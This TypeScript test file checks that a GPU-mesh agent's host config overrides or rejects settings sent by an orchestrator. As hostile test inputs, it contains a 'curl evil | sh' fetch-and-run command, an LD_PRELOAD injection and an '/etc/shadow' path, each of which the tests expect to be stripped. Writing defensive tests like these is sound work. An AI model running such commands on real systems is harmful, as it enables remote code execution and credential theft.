import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { HostConfig } from '../../../src/agent/models/host-config.js';
import { builtinModel } from '../../../src/builtin-models/index.js';
import type { ModelManifest } from '../../../src/protocol/index.js';
import { tempDirsPerTest } from '../../helpers/mesh.js';

const manifest = (name: string, engine: string, settings: Record<string, unknown>): ModelManifest => ({
  name, version: '1', engine, digest: `sha256:${'0'.repeat(64)}`, bytes: 0, memoryMB: 16, jobTypes: ['image'], params: {}, settings,
});
const tempDir = tempDirsPerTest();

describe('a host\'s own config decides what runs there', () => {
  it('the host settings an orchestrator sends give way to the host\'s own; the rest of what it sends stays', () => {
    const host = HostConfig.of({ models: { paint: { settings: { command: ['python3', 'paint.py'], cwd: '/opt/paint' } } } }, 'host.yaml');
    const sent = manifest('paint@2', 'exec', { command: 'sh -c "curl evil | sh"', env: { LD_PRELOAD: '/x.so' }, batch: true, timeoutMs: 5000 });
    expect(host.apply(sent).settings).toEqual({ batch: true, timeoutMs: 5000, command: ['python3', 'paint.py'], cwd: '/opt/paint' });
    expect(host.declared).toEqual(['paint']);
  });

  it('a command or server model the host does not declare cannot run here, whatever the orchestrator sent', () => {
    const host = HostConfig.none();
    for (const [engine, settings] of [['exec', { command: 'id' }], ['sdcpp', { url: 'http://10.0.0.1:7860' }], ['comfyui', { command: 'python main.py' }]] as const) {
      expect(() => host.apply(manifest('stray', engine, settings))).toThrow(expect.objectContaining({
        code: 'ENGINE_FAILED', retryable: true, message: expect.stringContaining(`model "stray" (${engine}) is not declared in this host's config`),
      }));
    }
  });

  it('data models need no declaration, but may not choose the agent\'s own process; an inline workflow is data, a workflow path is the host\'s', () => {
    const host = HostConfig.of({ models: { flow: { settings: { url: 'http://127.0.0.1:8188' } } } }, 'host.yaml');
    expect(host.apply(manifest('mlp', 'onnx', { pipeline: 'tensor', process: 'agent' })).settings).toEqual({ pipeline: 'tensor' });
    expect(host.apply(manifest('flow', 'comfyui', { workflow: { 3: { class_type: 'KSampler' } } })).settings)
      .toEqual({ workflow: { 3: { class_type: 'KSampler' } }, url: 'http://127.0.0.1:8188' });
    expect(host.apply(manifest('flow', 'comfyui', { workflow: '/etc/shadow' })).settings).toEqual({ url: 'http://127.0.0.1:8188' });
  });

  it('gpumesh\'s own built-in models keep what their definition asks (simple in the agent\'s process), known by the digest this agent computes', () => {
    const host = HostConfig.none();
    const simple = builtinModel('simple')!;
    expect(simple.inAgentProcess).toBe(true);
    const sent = manifest('simple', 'onnx', { pipeline: 'tensors', process: 'agent' });
    expect(host.apply({ ...sent, digest: simple.digest }).settings).toEqual({ pipeline: 'tensors', process: 'agent' });
    // The same name with other bytes is a model file like any other: it may not choose the agent's process.
    expect(host.apply(sent).settings).toEqual({ pipeline: 'tensors' });
  });

  it('a config file that is not what it should be is refused, naming the file and the field', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'typo.yaml'), 'modles:\n  x: {}\n');
    expect(() => HostConfig.load(join(dir, 'typo.yaml'))).toThrow(/invalid host config .*typo\.yaml:\n {2}\(top\): Unrecognized key: "modles"/);
    writeFileSync(join(dir, 'bad.yaml'), 'models:\n  "../x":\n    settings: {}\n');
    expect(() => HostConfig.load(join(dir, 'bad.yaml'))).toThrow(/models\.\.\.\/x: not a model name/);
    expect(() => HostConfig.load(join(dir, 'missing.yaml'))).toThrow(/cannot read the host config .*missing\.yaml/);
  });
});
